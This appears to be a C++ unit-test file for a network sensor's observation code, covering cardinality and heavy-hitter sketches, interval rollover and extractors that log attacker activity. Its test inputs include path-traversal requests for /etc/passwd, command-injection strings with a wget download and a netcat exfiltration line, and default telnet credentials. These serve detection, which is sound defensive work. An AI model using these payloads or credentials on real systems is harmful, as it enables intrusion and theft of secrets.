// Sensor observations: the sketches (HyperLogLog, Space-Saving), interval rollover by packet
// time, the aggregator's book, the intel extractors and what is written from them.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <cmath>
#include <map>
#include <memory>
#include <random>
#include <vector>

#include "observe/book.hpp"
#include "observe/summary.hpp"
#include "resident.hpp"
#include "shipped_run.hpp"
#include "stats/json.hpp"

using namespace pktsieve;
using namespace pktsieve::test;

namespace {

IpAddr v4(uint32_t a) {
    IpAddr x{};
    x[10] = x[11] = 0xff;
    x[12] = static_cast<uint8_t>(a >> 24);
    x[13] = static_cast<uint8_t>(a >> 16);
    x[14] = static_cast<uint8_t>(a >> 8);
    x[15] = static_cast<uint8_t>(a);
    return x;
}

template <unsigned P>
double relative_error(uint32_t n, uint32_t first = 1) {
    HyperLogLog<P> h;
    for (uint32_t i = 0; i < n; ++i) h.add(address_hash(v4(first + i)));
    return std::abs(h.estimate() - n) / n;
}

}  // namespace

TEST_CASE("HyperLogLog counts 10^5 distinct sources within its error bound", "[observe]") {
    // Three standard errors: 1.04 / sqrt(2^P) each (P = 10: 3.25 %, P = 8: 6.5 %).
    CHECK(relative_error<10>(100000) < 3 * WideSketch::standard_error());
    CHECK(relative_error<8>(100000) < 3 * PortSketch::standard_error());
    CHECK(relative_error<10>(100000, 0x0a000000) < 3 * WideSketch::standard_error());
    // Small counts are exact or nearly (linear counting; two sources may share a register).
    for (uint32_t n : {1u, 2u, 5u, 40u}) {
        WideSketch h;
        for (uint32_t i = 0; i < n; ++i) h.add(address_hash(v4(0xc6336400 + i)));
        CHECK(std::abs(std::llround(h.estimate()) - int64_t{n}) <= (n < 10 ? 0 : 1));
    }
    WideSketch empty;
    CHECK(empty.estimate() == 0);
}

TEST_CASE("HyperLogLog sketches merge into the sketch of the union", "[observe]") {
    WideSketch a, b, u;
    for (uint32_t i = 0; i < 60000; ++i) {
        const uint64_t h = address_hash(v4(i));
        (i < 40000 ? a : b).add(h);
        if (i >= 20000 && i < 40000) b.add(h);  // overlap: counted once
        u.add(h);
    }
    a.merge(b);
    CHECK(a.registers() == u.registers());
    CHECK(std::abs(a.estimate() - 60000) / 60000 < 3 * WideSketch::standard_error());
}

namespace {
struct Id {
    uint32_t v = 0;
    uint64_t hash() const { return v * 0x9e3779b97f4a7c15ull; }
    bool operator==(const Id&) const = default;
    bool operator<(const Id& o) const { return v < o.v; }
};

// A skewed stream: item k (1..20) appears 1000/k times, among `noise` single noise items.
std::vector<uint32_t> skewed(uint32_t seed, uint32_t noise_base, uint32_t noise = 20000) {
    std::vector<uint32_t> s;
    for (uint32_t k = 1; k <= 20; ++k)
        for (uint32_t i = 0; i < 1000 / k; ++i) s.push_back(k);
    for (uint32_t i = 0; i < noise; ++i) s.push_back(noise_base + i);
    std::shuffle(s.begin(), s.end(), std::mt19937(seed));
    return s;
}

// The guarantee: every item seen more than its set's total / Ways times is kept (one set: the
// stream's total / Ways), with lower <= true <= upper bounds; the two heaviest (far apart)
// come first, in order.
template <uint32_t Sets, uint32_t Ways>
void check_heavy_kept(const SpaceSaving<Id, Sets, Ways>& ss, std::map<uint32_t, uint64_t>& truth,
                      bool merged = false) {
    const auto set = [](uint32_t v) { return (Id{v}.hash() >> 32) % Sets; };
    std::map<uint64_t, uint64_t> set_total;
    for (const auto& [item, count] : truth) set_total[set(item)] += count;
    size_t checked = 0;
    for (const auto& [item, count] : truth) {
        if (count * Ways <= set_total[set(item)]) continue;
        INFO("item " << item << " seen " << count << " times");
        const auto kept = ss.lookup({item});
        REQUIRE(kept);
        CHECK(kept->count >= count);
        CHECK(kept->count - kept->error <= count);
        ++checked;
    }
    CHECK(checked >= (Sets == 1 ? 4 : 10));  // the guarantee covered the heavy items
    const auto all = ss.top(Sets * Ways);
    uint64_t sum = 0;
    for (const auto& it : all) {
        CHECK(it.count >= truth[it.key.v]);
        sum += it.count;
    }
    // Streaming, the counters add up to the stream's weight (a merge keeps the largest only).
    if (!merged) CHECK(sum == ss.total());
    CHECK(all[0].key.v == 1);
    CHECK(all[1].key.v == 2);
}

template <uint32_t Sets, uint32_t Ways>
void heavy_items_found(uint32_t noise) {
    SpaceSaving<Id, Sets, Ways> ss;
    std::map<uint32_t, uint64_t> truth;
    for (uint32_t x : skewed(1, 1000, noise)) {
        ss.add({x});
        ++truth[x];
    }
    uint64_t n = noise;
    for (uint32_t k = 1; k <= 20; ++k) n += 1000 / k;
    CHECK(ss.total() == n);
    check_heavy_kept(ss, truth);
}

template <uint32_t Sets, uint32_t Ways>
void merged_heavy_items_found(uint32_t noise) {
    SpaceSaving<Id, Sets, Ways> a, b, whole;
    std::map<uint32_t, uint64_t> truth;
    for (uint32_t x : skewed(2, 100000, noise)) a.add({x}), whole.add({x}), ++truth[x];
    for (uint32_t x : skewed(3, 200000, noise)) b.add({x}), whole.add({x}), ++truth[x];
    a.merge(b);
    CHECK(a.total() == whole.total());
    check_heavy_kept(a, truth, true);
}
}  // namespace

TEST_CASE("Space-Saving finds the true top items, with bounds that hold", "[observe]") {
    heavy_items_found<1, 32>(1500);    // classic: one set
    heavy_items_found<128, 4>(20000);  // partitioned, as the workers keep (port, source) pairs
}

TEST_CASE("Space-Saving summaries merge: the union's top items, bounds kept", "[observe]") {
    merged_heavy_items_found<1, 32>(1500);
    merged_heavy_items_found<128, 4>(20000);
    // Small streams stay exact through a merge.
    SpaceSaving<Id, 1, 8> x, y;
    x.add({1}, 3);
    x.add({2});
    y.add({1});
    y.add({3}, 5);
    x.merge(y);
    const auto t = x.top(8);
    REQUIRE(t.size() == 3);
    CHECK((t[0].key.v == 3 && t[0].count == 5 && t[0].error == 0));
    CHECK((t[1].key.v == 1 && t[1].count == 4 && t[1].error == 0));
    CHECK((t[2].key.v == 2 && t[2].count == 1));
}

TEST_CASE("Space-Saving with weights: exact below capacity, bounded above", "[observe]") {
    std::mt19937 rng(5);
    SpaceSaving<Id, 1, 16> small, big;
    SpaceSaving<Id, 4, 4> parts;
    std::map<uint32_t, uint64_t> truth_small, truth_big;
    for (int i = 0; i < 20000; ++i) {
        const uint32_t w = 1 + rng() % 7;
        const uint32_t k = rng() % 16, k2 = (rng() % 3 == 0) ? rng() % 1000 : rng() % 8;
        small.add({k}, w);
        truth_small[k] += w;
        big.add({k2}, w);
        parts.add({k2}, w);
        truth_big[k2] += w;
    }
    for (const auto& [k, n] : truth_small) {
        const auto it = small.lookup({k});
        REQUIRE(it);
        CHECK((it->count == n && it->error == 0));
    }
    for (const auto* ss : {&big}) {
        uint64_t sum = 0;
        for (const auto& it : ss->top(16)) {
            CHECK(it.count >= truth_big[it.key.v]);
            CHECK(it.count - it.error <= truth_big[it.key.v]);
            sum += it.count;
        }
        CHECK(sum == ss->total());
        for (uint32_t k = 0; k < 8; ++k) CHECK(ss->lookup({k}));  // the heavy ones
    }
    uint64_t sum = 0;
    for (const auto& it : parts.top(16)) {
        CHECK(it.count >= truth_big[it.key.v]);
        CHECK(it.count - it.error <= truth_big[it.key.v]);
        sum += it.count;
    }
    CHECK(sum == parts.total());
}

namespace {
struct Handed {
    std::vector<std::tuple<uint64_t, uint64_t, uint64_t>> pieces;  // interval, next, accesses
    std::vector<std::unique_ptr<ObservationPiece>> spare;
    static ObservationPiece* take(void* ctx, ObservationPiece* full) {
        auto& h = *static_cast<Handed*>(ctx);
        uint64_t n = 0;
        for (uint32_t k : full->obs.ports()) n += full->obs.accesses(k);
        h.pieces.emplace_back(full->interval, full->next, n);
        full->obs.clear();
        return full;  // the same buffer, cleared: as the aggregator gives them back
    }
};
constexpr uint64_t kHour = 3600ull * 1000000;
}  // namespace

TEST_CASE("Intervals roll over with packet time", "[observe]") {
    auto piece = std::make_unique<ObservationPiece>();
    Handed h;
    ObservationRecorder rec(kHour, piece.get(), &Handed::take, &h);
    const uint64_t t0 = 1700000000ull * 1000000;  // 22:13:20 UTC
    const IpAddr a = v4(1), b = v4(2);
    rec.at(t0).access(kProtoTcp, 23, a, b);
    REQUIRE(h.pieces.size() == 1);  // a first start: where this worker is, nothing held
    CHECK(std::get<0>(h.pieces[0]) == ObservationPiece::kNoInterval);
    CHECK(std::get<1>(h.pieces[0]) == t0 / kHour);
    rec.at(t0 + 10).access(kProtoTcp, 23, a, b);
    rec.at(t0 - 5000).access(kProtoTcp, 23, a, b);  // time went back: same interval
    const uint64_t next_hour = (t0 / kHour + 1) * kHour;
    rec.at(next_hour - 1).access(kProtoUdp, 53, a, b);
    CHECK(h.pieces.size() == 1);
    rec.at(next_hour).access(kProtoTcp, 23, a, b);  // the first microsecond of the next hour
    REQUIRE(h.pieces.size() == 2);
    CHECK(h.pieces[1] == std::tuple(t0 / kHour, t0 / kHour + 1, uint64_t{4}));
    rec.flush();  // same interval, handed so far
    CHECK(h.pieces[2] == std::tuple(t0 / kHour + 1, t0 / kHour + 1, uint64_t{1}));
    rec.advance(next_hour + 3 * kHour + 7);  // an idle worker told the time: three hours on
    CHECK(h.pieces[3] == std::tuple(t0 / kHour + 1, t0 / kHour + 4, uint64_t{0}));
    rec.at(next_hour + 3 * kHour + 9).access(kProtoTcp, 80, a, b);
    rec.finish();
    CHECK(h.pieces[4] == std::tuple(t0 / kHour + 4, ObservationPiece::kNoInterval, uint64_t{1}));
    rec.at(next_hour + 99 * kHour);  // nothing after the end
    CHECK(h.pieces.size() == 5);
}

TEST_CASE("The book writes an interval once every worker has moved past it", "[observe]") {
    ObservationBook book(2);
    auto piece = [](uint64_t interval, uint64_t next, uint16_t port, int n) {
        auto p = std::make_unique<ObservationPiece>();
        p->interval = interval;
        p->next = next;
        for (int i = 0; i < n; ++i) p->obs.access(kProtoTcp, port, v4(100 + i), v4(1));
        return p;
    };
    std::vector<std::pair<uint64_t, uint64_t>> written;  // interval, accesses on 23
    auto write = [&](uint64_t k, const Observation& o) {
        written.emplace_back(k, o.accesses(port_key(kProtoTcp, 23)));
    };
    book.add(0, *piece(ObservationPiece::kNoInterval, 10, 0, 0));
    book.add(0, *piece(10, 11, 23, 3));  // worker 0 moved on; worker 1 never started
    book.take_complete(write);
    CHECK(written.empty());
    book.add(1, *piece(ObservationPiece::kNoInterval, 10, 0, 0));
    book.add(1, *piece(10, 10, 23, 2));  // a flush: still in 10
    book.take_complete(write);
    CHECK(written.empty());
    book.add(1, *piece(10, 12, 23, 1));
    book.take_complete(write);
    REQUIRE(written.size() == 1);
    CHECK(written[0] == std::pair<uint64_t, uint64_t>(10, 6));
    book.add(0, *piece(11, ObservationPiece::kNoInterval, 23, 4));  // worker 0 ends
    book.take_complete(write);
    CHECK(written.size() == 2);  // 11: worker 1 is at 12 already
    CHECK(written[1] == std::pair<uint64_t, uint64_t>(11, 4));
    book.add(1, *piece(12, ObservationPiece::kNoInterval, 23, 5));
    book.take_complete(write);
    CHECK(written.back() == std::pair<uint64_t, uint64_t>(12, 5));
    CHECK(book.total().accesses(port_key(kProtoTcp, 23)) == 15);
    CHECK(book.open_intervals() == 0);
    // Something for an interval already written counts in the totals only.
    book.add(1, *piece(11, ObservationPiece::kNoInterval, 23, 1));
    CHECK(book.late_pieces() == 1);
    CHECK(book.total().accesses(port_key(kProtoTcp, 23)) == 16);
}

TEST_CASE("Intel extractors read the three waves", "[observe]") {
    IntelText t;
    REQUIRE(proxy_target("CONNECT", "www.example.com:443", t));
    CHECK(t.text() == "www.example.com:443");
    REQUIRE(proxy_target("GET", "http://azenv.net/", t));
    CHECK(t.text() == "azenv.net:80");
    REQUIRE(proxy_target("GET", "HTTP://user:pw@1.2.3.4:8080/x?y", t));
    CHECK(t.text() == "1.2.3.4:8080");
    CHECK_FALSE(proxy_target("GET", "/index.html", t));

    REQUIRE(traversal_target("/_plugin/head/../../../../etc/passwd", t));
    CHECK(t.text() == "/etc/passwd");
    REQUIRE(traversal_target("/_plugin/head/%2e%2e/%2e%2e/etc/shadow?x=1", t));
    CHECK(t.text() == "/etc/shadow");
    REQUIRE(traversal_target("/a/%252e%252e/b", t));  // encoded twice
    CHECK(t.text() == "/b");
    REQUIRE(traversal_target("/_plugin/head/..\\..\\..\\windows\\win.ini", t));
    CHECK(t.text() == "/windows/win.ini");
    CHECK_FALSE(traversal_target("/files/a..b/x", t));

    REQUIRE(exec_command(R"x({"script":"...getRuntime().exec(\"id\").getText()"})x", t));
    CHECK(t.text() == "id");
    REQUIRE(exec_command(R"x(new Scanner(Runtime.getRuntime().exec("wget http://x/y.sh")))x", t));
    CHECK(t.text() == "wget http://x/y.sh");
    REQUIRE(exec_command(R"x(exec(\"cat /etc/passwd | nc 1.2.3.4 4444\"))x", t));
    CHECK(t.text() == "cat /etc/passwd | nc 1.2.3.4 4444");
    CHECK_FALSE(exec_command("executive summary", t));

    REQUIRE(telnet_login("\r\nroot\r\nxc3511\r\nenable\r\n", t));
    CHECK(t.first() == "root");
    CHECK(t.second() == "xc3511");
    CHECK_FALSE(telnet_login("root\r\n", t));
    REQUIRE(telnet_login("admin\r\n\r\n", t));  // an empty password is a password
    CHECK((t.first() == "admin" && t.second().empty()));
}

TEST_CASE("Port source sketches go to a stretch's first ports; later ports' sources are untracked",
          "[observe]") {
    Observation o(2);
    const uint32_t telnet = port_key(kProtoTcp, 23), http = port_key(kProtoTcp, 80),
                   dns = port_key(kProtoUdp, 53), unseen = port_key(kProtoTcp, 8080);
    o.access(kProtoTcp, 23, v4(1), v4(100));
    o.access(kProtoTcp, 80, v4(2), v4(100));
    o.access(kProtoUdp, 53, v4(3), v4(100));  // both sketches are taken
    o.access(kProtoTcp, 23, v4(4), v4(100));
    REQUIRE(o.sources(telnet));
    CHECK(std::llround(o.sources(telnet)->estimate()) == 2);
    REQUIRE(o.sources(http));
    CHECK(std::llround(o.sources(http)->estimate()) == 1);
    CHECK(o.sources(dns) == nullptr);
    CHECK(o.accesses(dns) == 1);  // its accesses are still exact
    CHECK(o.sources(unseen) == nullptr);
    CHECK(o.accesses(unseen) == 0);
    CHECK(o.ports() == std::vector<uint32_t>{telnet, http, dns});

    Observation total(8, false);
    total.merge(o);
    REQUIRE(total.sources(telnet));
    CHECK(std::llround(total.sources(telnet)->estimate()) == 2);
    CHECK(total.sources(dns) == nullptr);  // untracked in a piece: unknown in the total too
    CHECK(total.accesses(dns) == 1);

    o.clear();
    CHECK(o.empty());
    CHECK(o.accesses(telnet) == 0);
    CHECK(o.sources(telnet) == nullptr);
    o.access(kProtoUdp, 53, v4(5), v4(100));  // the sketches are free again
    REQUIRE(o.sources(dns));
    CHECK(std::llround(o.sources(dns)->estimate()) == 1);
}

// A daemon builds an Observation per worker piece and per aggregator interval: their per-port
// arrays (1.5 MiB each) must cost nothing until ports are seen (filling them cost a --pcap run
// on a one-packet file ~10 % of its start-up, bench/README.md).
TEST_CASE("An observation's per-port arrays become resident as ports are seen", "[observe]") {
    const size_t before = resident_bytes();
    std::vector<std::unique_ptr<Observation>> pieces;
    for (int i = 0; i < 8; ++i) pieces.push_back(std::make_unique<Observation>(64, false));
    // Filled at construction, they would be 12 MiB resident.
    CHECK(resident_bytes() - before < (size_t{4} << 20));
    for (auto& o : pieces) {
        o->access(kProtoTcp, 23, v4(1), v4(100));
        o->access(kProtoUdp, 65535, v4(2), v4(100));
        CHECK(o->accesses(port_key(kProtoTcp, 23)) == 1);
        CHECK(o->sources(port_key(kProtoTcp, 80)) == nullptr);  // unseen: no sketch
        REQUIRE(o->sources(port_key(kProtoUdp, 65535)));
    }
}

TEST_CASE("Hostile intel is cut to size and escaped into valid JSON", "[observe]") {
    Observation o(64);
    const std::string quotes = R"(a"b\c)";
    const std::string control = std::string("x\x01\x1b[31m\x7f\r\n", 10) + "\xff\xc3(" + "é";
    const std::string long_line(4096, 'A');
    o.intel(IntelKind::telnet_credentials, IntelText::pair(quotes, control));
    o.intel(IntelKind::proxy_targets, IntelText::of(long_line));
    o.intel(IntelKind::rce_commands, IntelText::of(std::string("\0id\0", 4)));
    const std::string text = observation_json(summarise(o, {}));
    nlohmann::json j;
    REQUIRE_NOTHROW(j = nlohmann::json::parse(text));
    const auto& cred = j["intel"]["telnet_credentials"][0];
    CHECK(cred["username"] == quotes);
    // Control bytes and bytes of no UTF-8 character come back as U+00XX; valid UTF-8 stays.
    CHECK(cred["password"] == "x\x01\x1b[31m\x7f\r\n\xc3\xbf\xc3\x83(é");
    CHECK(cred["count"] == 1);
    const auto& target = j["intel"]["proxy_targets"][0];
    CHECK(target["target"].get<std::string>() == long_line.substr(0, IntelText::kMaxBytes));
    CHECK(target["truncated"] == true);
    CHECK(j["intel"]["rce_commands"][0]["command"] == std::string("\0id\0", 4));
    CHECK(text.find('\x1b') == std::string::npos);
    CHECK(text.find('\xff') == std::string::npos);
}

TEST_CASE("The pipeline observes accesses, alerts per threat and intel", "[observe]") {
    auto rs = shipped();
    Run run(*rs);
    auto piece = std::make_unique<ObservationPiece>();
    Handed h;
    ObservationRecorder rec(kHour, piece.get(), &Handed::take, &h);
    run.pipe.set_recorder(&rec);
    Conversation es(40001, 9200);
    es.client("GET /_plugin/head/../../../../etc/passwd HTTP/1.1\r\nHost: s\r\n\r\n");
    Conversation proxy(40002, 8080);
    proxy.client("CONNECT mail.example.com:25 HTTP/1.1\r\nHost: mail.example.com:25\r\n\r\n");
    Conversation telnet(40003, 23);
    telnet.client("root\r\n");
    telnet.client("vizxv\r\n");
    run.feed(es.frames);
    run.feed(proxy.frames);
    run.feed(telnet.frames);
    FrameSpec dns;
    dns.proto = kProtoUdp;
    dns.dport = 53;
    dns.payload = "x";
    run.feed({frame(dns), frame(dns)});
    FrameSpec synack;  // SYN-ACK and fragments later than the first are no access
    synack.tcp_flags = kSyn | kAck;
    synack.dport = 9200;
    run.feed({frame(synack)});
    const Observation& o = rec.current();
    CHECK(o.accesses(port_key(kProtoTcp, 9200)) == 1);
    CHECK(o.accesses(port_key(kProtoTcp, 8080)) == 1);
    CHECK(o.accesses(port_key(kProtoTcp, 23)) == 1);
    CHECK(o.accesses(port_key(kProtoUdp, 53)) == 2);
    CHECK(std::llround(o.sensor_addresses().estimate()) == 1);
    REQUIRE(o.sources(port_key(kProtoTcp, 23)));
    CHECK(std::llround(o.sources(port_key(kProtoTcp, 23))->estimate()) == 1);
    const auto s = summarise(o, {});
    CHECK(s.accesses == 5);
    REQUIRE(s.intel[size_t(IntelKind::traversal_targets)].size() == 1);
    CHECK(s.intel[size_t(IntelKind::traversal_targets)][0].text.text() == "/etc/passwd");
    REQUIRE(s.intel[size_t(IntelKind::proxy_targets)].size() == 1);
    CHECK(s.intel[size_t(IntelKind::proxy_targets)][0].text.text() == "mail.example.com:25");
    REQUIRE(s.intel[size_t(IntelKind::telnet_credentials)].size() == 1);
    CHECK(s.intel[size_t(IntelKind::telnet_credentials)][0].text.first() == "root");
    CHECK(s.intel[size_t(IntelKind::telnet_credentials)][0].text.second() == "vizxv");
    uint64_t alerts = 0;
    for (const auto& t : s.threats) {
        alerts += t.alerts;
        CHECK(t.sources == 1);
        REQUIRE(t.top_sources.size() == 1);
        CHECK(address_text(t.top_sources[0].addr) == "203.0.113.10");
    }
    CHECK(alerts == run.stats.counters.alerts);
    CHECK(alerts >= 2);
}

TEST_CASE("a sensor address is counted once per observation, again after a clear", "[observe]") {
    Observation o;
    IpAddr sensor{}, other{}, attacker{};
    sensor[15] = 1;
    other[15] = 2;
    attacker[15] = 9;
    for (int i = 0; i < 3; ++i) o.access(kProtoTcp, 23, attacker, sensor);
    CHECK(std::llround(o.sensor_addresses().estimate()) == 1);
    o.access(kProtoTcp, 23, attacker, other);
    o.access(kProtoTcp, 23, attacker, sensor);
    CHECK(std::llround(o.sensor_addresses().estimate()) == 2);
    o.clear();
    CHECK(std::llround(o.sensor_addresses().estimate()) == 0);
    o.access(kProtoTcp, 23, attacker, sensor);  // the address of the last access before clear
    CHECK(std::llround(o.sensor_addresses().estimate()) == 1);
}
